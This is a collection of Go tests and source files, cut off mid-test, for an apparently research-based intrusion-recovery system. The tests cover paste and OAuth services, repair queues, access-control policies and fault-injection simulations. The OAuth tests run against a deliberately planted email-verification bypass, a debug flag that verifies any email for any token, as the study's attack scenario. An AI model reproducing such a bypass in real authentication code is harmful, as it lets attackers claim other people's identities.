func TestFieldsPanicsOnOddArgs(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("Fields with odd args must panic")
		}
	}()
	Fields("a")
}
