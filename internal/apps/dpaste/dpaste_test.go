package dpaste

import (
	"strings"
	"testing"

	"aire/internal/core"
	"aire/internal/transport"
	"aire/internal/wire"
)

func newTB(t *testing.T) (*transport.Bus, *core.Controller) {
	t.Helper()
	bus := transport.NewBus()
	ctrl := core.NewController(New(), bus, core.DefaultConfig())
	bus.Register("dpaste", ctrl)
	return bus, ctrl
}

func call(t *testing.T, bus *transport.Bus, from string, req wire.Request) wire.Response {
	t.Helper()
	resp, err := bus.Call(from, "dpaste", req)
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

func TestPasteViewDownload(t *testing.T) {
	bus, _ := newTB(t)
	p := call(t, bus, "", wire.NewRequest("POST", "/paste").WithForm("code", "print(1)", "author", "alice"))
	if !p.OK() {
		t.Fatalf("paste: %+v", p)
	}
	id := string(p.Body)

	view := call(t, bus, "", wire.NewRequest("GET", "/snippet").WithForm("id", id))
	if !strings.Contains(string(view.Body), "alice") || !strings.Contains(string(view.Body), "print(1)") {
		t.Fatalf("snippet = %q", view.Body)
	}
	if resp := call(t, bus, "", wire.NewRequest("GET", "/snippet").WithForm("id", "nope")); resp.Status != 404 {
		t.Fatalf("missing snippet: %d", resp.Status)
	}

	dl := call(t, bus, "", wire.NewRequest("GET", "/download").WithForm("id", id))
	if string(dl.Body) != "print(1)" {
		t.Fatalf("download = %q", dl.Body)
	}
	call(t, bus, "", wire.NewRequest("GET", "/download").WithForm("id", id))
	list := call(t, bus, "", wire.NewRequest("GET", "/list"))
	if !strings.Contains(string(list.Body), id) {
		t.Fatalf("list = %q", list.Body)
	}
	// Empty code rejected.
	if resp := call(t, bus, "", wire.NewRequest("POST", "/paste")); resp.Status != 400 {
		t.Fatalf("empty paste: %d", resp.Status)
	}
}

func TestAuthorizeSameServicePolicy(t *testing.T) {
	bus, _ := newTB(t)
	// A paste issued by the service "askbot".
	p := call(t, bus, "askbot", wire.NewRequest("POST", "/paste").WithForm("code", "x", "author", "bob"))
	id := string(p.Body)

	del := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "delete", wire.HdrRequestID, p.Header[wire.HdrRequestID])

	// A different service may not repair askbot's paste.
	if resp, _ := bus.Call("evil-svc", "dpaste", del); resp.Status != 403 {
		t.Fatalf("foreign service repair accepted: %d", resp.Status)
	}
	// The issuing service may.
	if resp, _ := bus.Call("askbot", "dpaste", del); !resp.OK() {
		t.Fatalf("same-service repair rejected: %d %s", resp.Status, resp.Body)
	}
	if resp := call(t, bus, "", wire.NewRequest("GET", "/snippet").WithForm("id", id)); resp.Status != 404 {
		t.Fatalf("snippet should be cancelled: %d", resp.Status)
	}
}

func TestAuthorizeSameAuthorPolicy(t *testing.T) {
	bus, _ := newTB(t)
	// A paste from an external user.
	p := call(t, bus, "", wire.NewRequest("POST", "/paste").WithForm("code", "x", "author", "carol"))

	del := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "delete", wire.HdrRequestID, p.Header[wire.HdrRequestID])
	if resp := call(t, bus, "", del); resp.Status != 403 {
		t.Fatalf("authorless repair accepted: %d", resp.Status)
	}
	if resp := call(t, bus, "", del.WithHeader("X-Repair-Author", "mallory")); resp.Status != 403 {
		t.Fatalf("wrong-author repair accepted: %d", resp.Status)
	}
	if resp := call(t, bus, "", del.WithHeader("X-Repair-Author", "carol")); !resp.OK() {
		t.Fatalf("same-author repair rejected: %d %s", resp.Status, resp.Body)
	}
}

func TestDownloadersRereadAfterRepair(t *testing.T) {
	// A downloader's logged response is repaired when the snippet is
	// cancelled: the download re-executes to a 404.
	bus, ctrl := newTB(t)
	p := call(t, bus, "askbot", wire.NewRequest("POST", "/paste").WithForm("code", "evil()", "author", "x"))
	id := string(p.Body)
	dl := call(t, bus, "", wire.NewRequest("GET", "/download").WithForm("id", id))
	if string(dl.Body) != "evil()" {
		t.Fatalf("download = %q", dl.Body)
	}

	del := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "delete", wire.HdrRequestID, p.Header[wire.HdrRequestID])
	if resp, _ := bus.Call("askbot", "dpaste", del); !resp.OK() {
		t.Fatalf("repair: %+v", resp)
	}
	rec, _ := ctrl.Svc.Log.Get(dl.Header[wire.HdrRequestID])
	if rec.Resp.Status != 404 {
		t.Fatalf("downloader's repaired response = %d, want 404", rec.Resp.Status)
	}
}
