package harness

import (
	"strings"
	"testing"

	"aire/internal/core"
	"aire/internal/wire"
)

func TestTestbedBasics(t *testing.T) {
	tb := NewTestbed()
	tb.Add(&KVApp{ServiceName: "a"}, core.DefaultConfig())

	if svc := tb.Service("a"); svc == nil || svc.Name != "a" {
		t.Fatal("Service accessor broken")
	}
	if got := tb.Call("nope", wire.NewRequest("GET", "/")); got.Status != wire.StatusTimeout {
		t.Fatalf("unknown service call = %d", got.Status)
	}
	if tb.QueuedMessages() != 0 {
		t.Fatal("fresh testbed has queued messages")
	}
	if rounds := tb.Settle(5); rounds != 0 {
		t.Fatalf("fresh testbed settled in %d rounds", rounds)
	}
}

func TestMustCallPanicsOnError(t *testing.T) {
	tb := NewTestbed()
	tb.Add(&KVApp{ServiceName: "a"}, core.DefaultConfig())
	defer func() {
		p := recover()
		if p == nil {
			t.Fatal("MustCall on a failing request must panic")
		}
		if !strings.Contains(p.(string), "404") {
			t.Fatalf("panic = %v", p)
		}
	}()
	tb.MustCall("a", wire.NewRequest("GET", "/get").WithForm("key", "missing"))
}

func TestFreezeTime(t *testing.T) {
	tb := NewTestbed()
	tb.Add(&KVApp{ServiceName: "a"}, core.DefaultConfig())
	tb.FreezeTime(123456)
	if got := tb.Service("a").TimeSource(); got != 123456 {
		t.Fatalf("TimeSource = %d", got)
	}
}

func TestSweepRepairSmoke(t *testing.T) {
	points, err := SweepRepair([]int{3, 6}, 2)
	if err != nil {
		t.Fatal(err)
	}
	if len(points) != 2 || points[1].TotalRequests <= points[0].TotalRequests {
		t.Fatalf("sweep = %+v", points)
	}
	out := FormatSweep(points)
	if !strings.Contains(out, "users") || !strings.Contains(out, "repair time") {
		t.Fatalf("sweep rendering: %q", out)
	}
}

func TestPortingEffortCountsRealCode(t *testing.T) {
	rows := PortingEffort()
	if len(rows) == 0 {
		t.Fatal("no porting rows")
	}
	for _, r := range rows {
		if r.Lines <= 0 {
			t.Fatalf("row %q has %d lines", r.What, r.Lines)
		}
		// §7.3's shape: each concern is tens of lines, not hundreds.
		if r.Lines > 150 {
			t.Fatalf("row %q suspiciously large: %d", r.What, r.Lines)
		}
	}
}
