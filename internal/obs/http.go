package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
)

// promName rewrites a registry metric name ("core.hub.queue_depth")
// into the Prometheus exposition charset (dots and dashes become
// underscores).
func promName(name string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z',
			r >= '0' && r <= '9', r == '_', r == ':':
			return r
		default:
			return '_'
		}
	}, name)
}

// WriteProm renders the snapshot in the Prometheus text exposition
// format (v0.0.4), deterministically sorted. Histograms export
// cumulative le buckets in seconds plus _sum and _count.
func (s Snapshot) WriteProm(w io.Writer) {
	for _, k := range sortedKeys(s.Counters) {
		n := promName(k)
		fmt.Fprintf(w, "# TYPE %s counter\n%s %d\n", n, n, s.Counters[k])
	}
	for _, k := range sortedKeys(s.Gauges) {
		n := promName(k)
		fmt.Fprintf(w, "# TYPE %s gauge\n%s %d\n", n, n, s.Gauges[k])
	}
	for _, k := range sortedKeys(s.Histograms) {
		n := promName(k)
		h := s.Histograms[k]
		fmt.Fprintf(w, "# TYPE %s histogram\n", n)
		var cum int64
		for i, c := range h.Buckets {
			cum += c
			// Bucket i upper bound is 2^i microseconds.
			le := float64(int64(1)<<i) * 1e-6
			fmt.Fprintf(w, "%s_bucket{le=%q} %d\n", n, fmt.Sprintf("%g", le), cum)
		}
		fmt.Fprintf(w, "%s_bucket{le=\"+Inf\"} %d\n", n, h.Count)
		fmt.Fprintf(w, "%s_sum %g\n", n, float64(h.SumNS)*1e-9)
		fmt.Fprintf(w, "%s_count %d\n", n, h.Count)
	}
}

// Handler serves the registry in Prometheus text format (the
// /aire/debug/metrics surface). Nil-safe: a nil registry serves an
// empty exposition.
func (r *Registry) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		r.Snapshot().WriteProm(w)
	})
}

// WavesDump is the JSON document served by /aire/debug/waves and
// uploaded as the bench5 CI artifact.
type WavesDump struct {
	// TotalSpans counts spans ever recorded (ring may have dropped some).
	TotalSpans int64 `json:"total_spans"`
	// Buffered is how many spans the ring currently holds.
	Buffered int        `json:"buffered"`
	Waves    []WaveStat `json:"waves"`
	// Spans is the raw buffer, oldest first (omitted when verbose=0).
	Spans []Span `json:"spans,omitempty"`
}

// Dump assembles the waves document from the registry's ring. Nil-safe.
func (r *Registry) Dump(verbose bool) WavesDump {
	spans := r.Ring().Spans()
	d := WavesDump{
		TotalSpans: r.Ring().Total(),
		Buffered:   len(spans),
		Waves:      Waves(spans),
	}
	if verbose {
		d.Spans = spans
	}
	return d
}

// WavesHandler serves reconstructed wave stats as JSON (the
// /aire/debug/waves surface); ?verbose=1 includes raw spans. Nil-safe.
func (r *Registry) WavesHandler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		_ = enc.Encode(r.Dump(req.URL.Query().Get("verbose") == "1"))
	})
}
