package idgen

import (
	"sync"
	"testing"
)

func TestSequentialUnique(t *testing.T) {
	g := New("svc")
	seen := map[string]bool{}
	for i := 0; i < 100; i++ {
		for _, id := range []string{g.Request(), g.Response(), g.Token()} {
			if seen[id] {
				t.Fatalf("duplicate id %s", id)
			}
			seen[id] = true
		}
	}
}

func TestPrefixScoping(t *testing.T) {
	a, b := New("a"), New("b")
	if a.Request() == b.Request() {
		t.Fatal("different services must mint different ids")
	}
}

func TestDerivedDeterminism(t *testing.T) {
	if Derived("svc-req-1", 0) != Derived("svc-req-1", 0) {
		t.Fatal("Derived must be deterministic")
	}
	if Derived("svc-req-1", 0) == Derived("svc-req-1", 1) {
		t.Fatal("Derived must vary with sequence")
	}
	if Derived("svc-req-1", 0) == Derived("svc-req-2", 0) {
		t.Fatal("Derived must vary with request")
	}
}

func TestConcurrentUnique(t *testing.T) {
	g := New("svc")
	const workers, per = 8, 200
	ids := make(chan string, workers*per)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < per; i++ {
				ids <- g.Request()
			}
		}()
	}
	wg.Wait()
	close(ids)
	seen := map[string]bool{}
	for id := range ids {
		if seen[id] {
			t.Fatalf("duplicate id %s under concurrency", id)
		}
		seen[id] = true
	}
}

func TestCounterRestore(t *testing.T) {
	g := New("svc")
	g.Request()
	g.SetCounter(100)
	if got := g.Request(); got != "svc-req-101" {
		t.Fatalf("after SetCounter(100) want svc-req-101, got %s", got)
	}
	if g.Counter() != 101 {
		t.Fatalf("counter = %d, want 101", g.Counter())
	}
}
