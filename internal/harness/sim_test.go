package harness

import (
	"reflect"
	"testing"
)

// runSeed runs one simulation and fails the test with a reproduction
// command if the oracle is violated — every failure names its seed.
func runSeed(t *testing.T, profile string, seed int64) *SimResult {
	t.Helper()
	cfg, err := SimProfileConfig(profile)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Seed = seed
	res, err := RunSim(cfg)
	if err != nil {
		t.Fatalf("seed %d: harness error (reproduce: go run ./cmd/airesim -profile %s -seeds %d -v): %v", seed, profile, seed, err)
	}
	if !res.Passed {
		t.Errorf("seed %d failed the convergence oracle (reproduce: go run ./cmd/airesim -profile %s -seeds %d -v):\n  faults=%v rounds=%d\n  %v",
			seed, profile, seed, res.FaultCounts, res.Rounds, res.Failures)
	}
	return res
}

// TestSimSeeds is the fixed-seed simulation matrix: for every fault class
// (drop, duplicate+lost-response, delay/reorder, partition, crash-restart)
// plus the mixed profile, a batch of seeds must pass the convergence
// oracle. 6 profiles × 4 seeds = 24 deterministic scenarios; `make sim`
// runs longer sweeps over the same machinery.
func TestSimSeeds(t *testing.T) {
	for _, profile := range SimProfileNames() {
		profile := profile
		t.Run(profile, func(t *testing.T) {
			injected := 0
			for seed := int64(1); seed <= 4; seed++ {
				res := runSeed(t, profile, seed)
				res.Trace = nil // keep failure output readable
				for _, n := range res.FaultCounts {
					injected += n
				}
				injected += res.CrashCount + res.PartitionCount
			}
			// A profile that injects nothing over 4 seeds tests nothing.
			if injected == 0 {
				t.Errorf("profile %s injected no faults across its seeds", profile)
			}
		})
	}
}

// TestSimDeterminism: a run is a pure function of its seed — the fault
// schedule, fault counts, quiesce rounds, verdict, and state digest must
// be bit-identical across re-runs, or failing seeds cannot be replayed.
func TestSimDeterminism(t *testing.T) {
	cfg, err := SimProfileConfig("mixed")
	if err != nil {
		t.Fatal(err)
	}
	cfg.Seed = 42
	r1, err1 := RunSim(cfg)
	r2, err2 := RunSim(cfg)
	if err1 != nil || err2 != nil {
		t.Fatalf("seed 42: %v / %v", err1, err2)
	}
	if !reflect.DeepEqual(r1, r2) {
		t.Fatalf("same seed produced different runs:\n%+v\n%+v", r1, r2)
	}
	if len(r1.Trace) == 0 {
		t.Fatal("mixed profile seed 42 injected no faults; determinism check is vacuous")
	}
}

// TestSimFaultFreeBaseline: with no faults at all, every seed must
// trivially converge — this isolates generator/oracle bugs from genuine
// repair-protocol bugs.
func TestSimFaultFreeBaseline(t *testing.T) {
	for seed := int64(1); seed <= 5; seed++ {
		res, err := RunSim(SimConfig{Seed: seed, Services: 3, Topology: "chain"})
		if err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		if !res.Passed {
			t.Fatalf("fault-free seed %d diverged: %v", seed, res.Failures)
		}
	}
}
