package harness

import (
	"context"
	"testing"
	"time"

	"aire/internal/core"
)

// pumpCfg is a hub configuration tuned for the fan-out tests: concurrent
// delivery, short backoff, fast background passes.
func pumpCfg() core.Config {
	cfg := core.DefaultConfig()
	cfg.PumpWorkers = 4
	cfg.BatchSize = 8
	cfg.PumpInterval = time.Millisecond
	cfg.Backoff = core.Backoff{Base: 2 * time.Millisecond, Max: 20 * time.Millisecond, Factor: 2}
	return cfg
}

// TestFanoutPumpDeliversAroundStalledPeer is the tentpole property: with one
// peer stalled (offline, and hanging callers for a long timeout), the
// background pump still repairs every reachable peer promptly — delivery to
// healthy peers never queues behind the stalled one.
func TestFanoutPumpDeliversAroundStalledPeer(t *testing.T) {
	// Generous stall: the assertion below is an upper bound on wall time,
	// so the margin between "healthy peers repaired" (~1ms in-memory) and
	// the stall must absorb scheduler/GC noise on loaded CI runners.
	const stallLatency = 750 * time.Millisecond
	s := NewFanoutScenario(6, pumpCfg())
	if err := s.RunAttack(); err != nil {
		t.Fatal(err)
	}
	s.StallPeer("peer3", stallLatency)
	if err := s.Repair(); err != nil {
		t.Fatal(err)
	}

	stop, err := s.TB.StartPumps(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	defer stop()

	elapsed, ok := s.WaitReachableRepaired(5 * time.Second)
	if !ok {
		t.Fatalf("reachable peers not repaired after %v; queue=%d", elapsed, s.Hub.QueueLen())
	}
	// The healthy peers must not have waited out even one stalled delivery
	// attempt: serial delivery would block ≥ stallLatency before reaching
	// whichever peers sit behind the stalled one in the queue.
	if elapsed >= stallLatency {
		t.Errorf("reachable repair took %v, not concurrent with the %v stall", elapsed, stallLatency)
	}
	// The stalled peer's message is still live — queued, not parked — since
	// backoff replaces park-after-MaxAttempts.
	if s.Hub.QueueLen() == 0 {
		t.Fatal("stalled peer's repair message should remain queued")
	}
	for _, p := range s.Hub.Pending() {
		if p.Held {
			t.Fatalf("backoff mode must not park messages: %+v", p)
		}
	}
}

// TestFanoutStalledPeerRecovers: once the stalled peer returns, the pump's
// backoff retries deliver the held-back repair without any manual Retry.
func TestFanoutStalledPeerRecovers(t *testing.T) {
	s := NewFanoutScenario(4, pumpCfg())
	if err := s.RunAttack(); err != nil {
		t.Fatal(err)
	}
	s.StallPeer("peer2", 5*time.Millisecond)
	if err := s.Repair(); err != nil {
		t.Fatal(err)
	}

	stop, err := s.TB.StartPumps(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	defer stop()

	if _, ok := s.WaitReachableRepaired(5 * time.Second); !ok {
		t.Fatal("reachable peers not repaired")
	}
	s.ReviveStalledPeer()

	// Queue empty means every delete landed (delivery applies the repair in
	// the peer's handler before the message is dequeued).
	if !s.Hub.WaitQueueEmpty(5 * time.Second) {
		t.Fatalf("stalled peer not repaired after recovery; queue=%d", s.Hub.QueueLen())
	}
	if !s.AllRepaired() {
		t.Fatal("queue drained but a peer still serves the attack value")
	}
}

// TestFanoutSerialSettleBlocksOnStall documents the baseline the pump
// replaces: synchronous rounds pay the stalled peer's timeout inline, so
// even the healthy peers' repair waits on it.
func TestFanoutSerialSettleBlocksOnStall(t *testing.T) {
	const stallLatency = 30 * time.Millisecond
	s := NewFanoutScenario(4, core.DefaultConfig())
	if err := s.RunAttack(); err != nil {
		t.Fatal(err)
	}
	s.StallPeer("peer2", stallLatency)
	if err := s.Repair(); err != nil {
		t.Fatal(err)
	}
	elapsed, ok := s.SettleUntilReachableRepaired(10)
	if !ok {
		t.Fatal("reachable peers not repaired by serial settle")
	}
	if elapsed < stallLatency {
		t.Errorf("serial settle finished in %v — expected it to block ≥ %v on the stalled peer", elapsed, stallLatency)
	}
}

// TestFanoutPumpStartStopLifecycle exercises double-start and double-stop.
func TestFanoutPumpStartStopLifecycle(t *testing.T) {
	s := NewFanoutScenario(2, pumpCfg())
	if err := s.Hub.StartPump(context.Background()); err != nil {
		t.Fatal(err)
	}
	if err := s.Hub.StartPump(context.Background()); err == nil {
		t.Fatal("second StartPump must fail while running")
	}
	if !s.Hub.PumpRunning() {
		t.Fatal("pump should be running")
	}
	s.Hub.StopPump()
	s.Hub.StopPump() // idempotent
	if s.Hub.PumpRunning() {
		t.Fatal("pump should be stopped")
	}
	// Restart works after a stop.
	if err := s.Hub.StartPump(context.Background()); err != nil {
		t.Fatal(err)
	}
	s.Hub.StopPump()
}
