package oauthsvc

import (
	"strings"
	"testing"

	"aire/internal/core"
	"aire/internal/transport"
	"aire/internal/wire"
)

const admin = "admin-tok"

func newTB(t *testing.T) (*transport.Bus, *core.Controller) {
	t.Helper()
	bus := transport.NewBus()
	ctrl := core.NewController(New(admin), bus, core.DefaultConfig())
	bus.Register("oauth", ctrl)
	return bus, ctrl
}

func call(t *testing.T, bus *transport.Bus, req wire.Request) wire.Response {
	t.Helper()
	resp, err := bus.Call("", "oauth", req)
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

func signup(t *testing.T, bus *transport.Bus, user, email string) {
	t.Helper()
	resp := call(t, bus, wire.NewRequest("POST", "/signup").WithForm(
		"user", user, "password", "pw-"+user, "email", email))
	if !resp.OK() {
		t.Fatalf("signup %s: %s", user, resp.Body)
	}
}

func TestSignupAuthorizeVerifyFlow(t *testing.T) {
	bus, _ := newTB(t)
	signup(t, bus, "alice", "alice@x.org")

	// Duplicate signup rejected.
	if resp := call(t, bus, wire.NewRequest("POST", "/signup").WithForm(
		"user", "alice", "password", "zz", "email", "e")); resp.Status != 409 {
		t.Fatalf("duplicate signup: %d", resp.Status)
	}

	// Bad credentials rejected.
	if resp := call(t, bus, wire.NewRequest("POST", "/authorize").WithForm(
		"user", "alice", "password", "wrong", "client", "app")); resp.Status != 403 {
		t.Fatalf("bad creds: %d", resp.Status)
	}
	auth := call(t, bus, wire.NewRequest("POST", "/authorize").WithForm(
		"user", "alice", "password", "pw-alice", "client", "app"))
	if !auth.OK() || !strings.HasPrefix(string(auth.Body), "tok-") {
		t.Fatalf("authorize: %+v", auth)
	}
	token := string(auth.Body)

	// Correct email verifies; wrong email does not.
	if resp := call(t, bus, wire.NewRequest("POST", "/verify_email").WithForm(
		"email", "alice@x.org", "token", token)); !resp.OK() {
		t.Fatalf("verify own email: %s", resp.Body)
	}
	if resp := call(t, bus, wire.NewRequest("POST", "/verify_email").WithForm(
		"email", "victim@x.org", "token", token)); resp.Status != 403 {
		t.Fatalf("verify foreign email should fail: %d", resp.Status)
	}
	// Unknown token.
	if resp := call(t, bus, wire.NewRequest("POST", "/verify_email").WithForm(
		"email", "alice@x.org", "token", "bogus")); resp.Status != 403 {
		t.Fatalf("unknown token: %d", resp.Status)
	}
	// Token resolution endpoint.
	if resp := call(t, bus, wire.NewRequest("GET", "/token_user").WithForm("token", token)); string(resp.Body) != "alice" {
		t.Fatalf("token_user = %q", resp.Body)
	}
}

func TestDebugVerifyAllVulnerability(t *testing.T) {
	bus, _ := newTB(t)
	signup(t, bus, "attacker", "attacker@x.org")
	auth := call(t, bus, wire.NewRequest("POST", "/authorize").WithForm(
		"user", "attacker", "password", "pw-attacker", "client", "app"))
	token := string(auth.Body)

	// Config change requires the admin token.
	bad := wire.NewRequest("POST", "/admin/config").WithForm("key", "debug_verify_all", "value", "true")
	if resp := call(t, bus, bad); resp.Status != 403 {
		t.Fatalf("config without admin token: %d", resp.Status)
	}
	if resp := call(t, bus, bad.WithHeader("X-Admin-Token", admin)); !resp.OK() {
		t.Fatalf("config with admin token: %s", resp.Body)
	}
	// With the debug flag on, any email verifies — the Figure 4 bug.
	if resp := call(t, bus, wire.NewRequest("POST", "/verify_email").WithForm(
		"email", "victim@x.org", "token", token)); !resp.OK() {
		t.Fatalf("debug bypass should verify anything: %d %s", resp.Status, resp.Body)
	}
}

func TestAuthorizePolicy(t *testing.T) {
	bus, ctrl := newTB(t)
	signup(t, bus, "alice", "alice@x.org")
	auth := call(t, bus, wire.NewRequest("POST", "/authorize").WithForm(
		"user", "alice", "password", "pw-alice", "client", "app"))

	mkDelete := func(hdr ...string) wire.Request {
		return wire.NewRequest("POST", "/aire/repair").WithHeader(
			wire.HdrRepair, "delete", wire.HdrRequestID, auth.Header[wire.HdrRequestID],
		).WithHeader(hdr...)
	}
	// No credentials: denied.
	if resp := call(t, bus, mkDelete()); resp.Status != 403 {
		t.Fatalf("credential-less repair accepted: %d", resp.Status)
	}
	// Wrong user's password: denied.
	if resp := call(t, bus, mkDelete("X-Repair-Password", "nope")); resp.Status != 403 {
		t.Fatalf("wrong password accepted: %d", resp.Status)
	}
	// Same user's password: allowed — the token grant is revoked.
	if resp := call(t, bus, mkDelete("X-Repair-Password", "pw-alice")); !resp.OK() {
		t.Fatalf("same-user repair rejected: %d %s", resp.Status, resp.Body)
	}
	if resp := call(t, bus, wire.NewRequest("GET", "/token_user").WithForm(
		"token", string(auth.Body))); resp.Status != 404 {
		t.Fatalf("token should be revoked by repair: %d", resp.Status)
	}

	// Admin-path repair requires the admin token.
	cfg := call(t, bus, wire.NewRequest("POST", "/admin/config").
		WithForm("key", "k", "value", "v").WithHeader("X-Admin-Token", admin))
	del := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "delete", wire.HdrRequestID, cfg.Header[wire.HdrRequestID])
	if resp := call(t, bus, del); resp.Status != 403 {
		t.Fatalf("admin repair without token accepted: %d", resp.Status)
	}
	if resp := call(t, bus, del.WithHeader("X-Admin-Token", admin)); !resp.OK() {
		t.Fatalf("admin repair rejected: %d %s", resp.Status, resp.Body)
	}
	_ = ctrl
}

func TestSeed(t *testing.T) {
	bus, _ := newTB(t)
	if err := Seed(func(req wire.Request) wire.Response {
		resp, _ := bus.Call("", "oauth", req)
		return resp
	}, 3, "mallory"); err != nil {
		t.Fatal(err)
	}
	for _, u := range []string{"user1", "user2", "user3", "mallory"} {
		resp := call(t, bus, wire.NewRequest("POST", "/authorize").WithForm(
			"user", u, "password", "pw-"+u, "client", "c"))
		if !resp.OK() {
			t.Fatalf("seeded user %s cannot authorize: %s", u, resp.Body)
		}
	}
}
