package core

import (
	"strings"
	"testing"

	"aire/internal/vdb"
	"aire/internal/warp"
	"aire/internal/wire"
)

func kvKey(id string) vdb.Key    { return vdb.Key{Model: "kv", ID: id} }
func cacheKey(id string) vdb.Key { return vdb.Key{Model: "cache", ID: id} }

func TestOfflinePeerQueuesRepair(t *testing.T) {
	// §7.2: local repair completes while the peer is down; the repair
	// message waits in the outgoing queue and lands when the peer returns.
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a", mirror: "b"}, DefaultConfig())
	tb.add(&kvApp{name: "b"}, DefaultConfig())

	attack := tb.call("a", put("x", "evil"))
	tb.settle(10)

	tb.bus.SetOffline("b", true)
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	tb.settle(1) // single flush attempt while offline

	// a is already repaired (asynchronous repair, §3).
	if resp := tb.call("a", get("x")); resp.Status != 404 {
		t.Fatalf("a not repaired while b offline: %d %q", resp.Status, resp.Body)
	}
	if a.QueueLen() == 0 {
		t.Fatal("repair message for b should be queued")
	}

	tb.bus.SetOffline("b", false)
	// Back online but before the queue drains: b still holds corrupt state.
	if got := string(tb.call("b", get("x")).Body); got != "evil" {
		t.Fatalf("b = %q before queue drain", got)
	}
	tb.settle(10)
	if resp := tb.call("b", get("x")); resp.Status != 404 {
		t.Fatalf("b not repaired after coming online: %d %q", resp.Status, resp.Body)
	}
	if a.QueueLen() != 0 {
		t.Fatalf("queue should drain, %d left", a.QueueLen())
	}
}

func TestNeverOnlinePeerNotifiesAdmin(t *testing.T) {
	// §7.2: "Aire on Askbot timed out attempting to send the delete message
	// to Dpaste, and notified the Askbot administrator."
	tb := newTestbed()
	app := &kvApp{name: "a", mirror: "b"}
	a := tb.add(app, DefaultConfig())
	tb.add(&kvApp{name: "b"}, DefaultConfig())

	attack := tb.call("a", put("x", "evil"))
	tb.settle(10)
	tb.bus.SetOffline("b", true)

	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < DefaultConfig().MaxAttempts+1; i++ {
		a.Flush()
	}

	var unreachable bool
	for _, n := range a.Notifications() {
		if n.Kind == "unreachable" && n.Target == "b" {
			unreachable = true
		}
	}
	if !unreachable {
		t.Fatalf("administrator not notified of unreachable peer: %+v", a.Notifications())
	}
	// The message is held, not lost.
	pend := a.Pending()
	if len(pend) != 1 || !pend[0].Held {
		t.Fatalf("message should be held for retry: %+v", pend)
	}
	// Notifier interface variant received it too.
	if len(app.notes) == 0 {
		t.Fatal("app Notify hook not invoked")
	}
}

func TestAuthorizationFailureHeldAndRetried(t *testing.T) {
	// §7.2: peer rejects repair while credentials are expired; after the
	// user refreshes the token, retry succeeds.
	tb := newTestbed()
	tokenValid := true
	a := tb.add(&kvApp{name: "a", mirror: "b"}, DefaultConfig())
	tb.add(&kvApp{name: "b", authz: func(ac AuthzRequest) bool {
		return tokenValid && ac.Carrier.Header["X-Token"] != "" || ac.Kind == warp.OutReplaceResponse
	}}, DefaultConfig())

	attack := tb.call("a", wire.NewRequest("POST", "/put").
		WithForm("key", "x", "val", "evil").
		WithHeader("X-Token", "tok-1"))
	tb.settle(10)

	tokenValid = false
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	tb.settle(10)

	// b rejected the delete: message held, admin notified, b unrepaired.
	var denied bool
	for _, n := range a.Notifications() {
		if n.Kind == "unauthorized" {
			denied = true
		}
	}
	if !denied {
		t.Fatalf("expected unauthorized notification, got %+v", a.Notifications())
	}
	if got := string(tb.call("b", get("x")).Body); got != "evil" {
		t.Fatalf("b should still be corrupt, got %q", got)
	}

	// User logs in again: fresh token, retry.
	tokenValid = true
	pend := a.Pending()
	if len(pend) != 1 {
		t.Fatalf("pending = %+v", pend)
	}
	if err := a.Retry(pend[0].MsgID, map[string]string{"X-Token": "tok-2"}); err != nil {
		t.Fatal(err)
	}
	tb.settle(10)
	if resp := tb.call("b", get("x")); resp.Status != 404 {
		t.Fatalf("b not repaired after retry: %d %q", resp.Status, resp.Body)
	}
}

func TestRepairAccessControlDeniesForeignRepair(t *testing.T) {
	// §4: a repair call with the wrong principal is refused — repair must
	// not become an attack vector.
	tb := newTestbed()
	tb.add(&kvApp{name: "b", authz: func(ac AuthzRequest) bool {
		return ac.Carrier.Header["X-Token"] == "secret"
	}}, DefaultConfig())

	victim := tb.call("b", put("x", "value"))
	del := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "delete",
		wire.HdrRequestID, victim.Header[wire.HdrRequestID],
		"X-Token", "wrong",
	)
	resp := tb.call("b", del)
	if resp.Status != 403 {
		t.Fatalf("unauthorized repair returned %d", resp.Status)
	}
	if got := string(tb.call("b", get("x")).Body); got != "value" {
		t.Fatalf("unauthorized repair mutated state: %q", got)
	}
}

func TestQueueCollapsing(t *testing.T) {
	// §3.2: multiple repair messages about the same request collapse to the
	// most recent one.
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a", mirror: "b"}, DefaultConfig())
	tb.add(&kvApp{name: "b"}, DefaultConfig())

	bad := tb.call("a", put("x", "v1"))
	tb.settle(10)
	tb.bus.SetOffline("b", true)

	// Two successive replaces while b is down: only one message should
	// remain queued.
	for _, v := range []string{"v2", "v3"} {
		if _, err := a.ApplyLocal(warp.Action{
			Kind: warp.ReplaceReq, ReqID: bad.Header[wire.HdrRequestID], NewReq: put("x", v),
		}); err != nil {
			t.Fatal(err)
